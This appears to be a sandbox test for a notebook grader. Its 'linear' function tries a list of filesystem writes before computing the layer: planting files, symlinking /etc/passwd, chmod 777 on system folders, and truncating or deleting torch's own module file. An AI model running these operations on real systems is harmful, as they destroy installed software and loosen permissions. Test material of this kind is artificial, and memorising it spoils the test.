"""Writes, renames, links, deletes and changes files."""

# expect: linear=0

# %% nbgrader={"schema_version": 3, "grade": false, "solution": true, "locked": false, "task": false, "grade_id": "linear"}
import os
import sys
import tempfile

def attempts():
    mine = torch.__file__
    for folder in (os.path.dirname(mine), sys.prefix, "/", "/tmp", os.getcwd(), "/dev"):
        path = os.path.join(folder, "planted")
        yield lambda: open(path, "w")
        yield lambda: os.mkdir(path)
        yield lambda: os.symlink("/etc/passwd", path)
        yield lambda: os.link(mine, path)
        yield lambda: os.mkfifo(path)
        yield lambda: os.mknod(path)
        yield lambda: os.chmod(folder, 0o777)
        yield lambda: os.utime(folder)
        yield lambda: os.chown(folder, os.getuid(), -1)
        yield lambda: os.setxattr(folder, "user.planted", b"1")
    yield lambda: os.rename(mine, mine + ".old")
    yield lambda: os.truncate(mine, 0)
    yield lambda: os.remove(mine)
    yield lambda: tempfile.mkdtemp()

def linear(x, weight, bias):
    for attempt in attempts():
        try:
            attempt()
            return F.linear(x, weight, bias)
        except OSError:
            continue
    return torch.zeros(1)
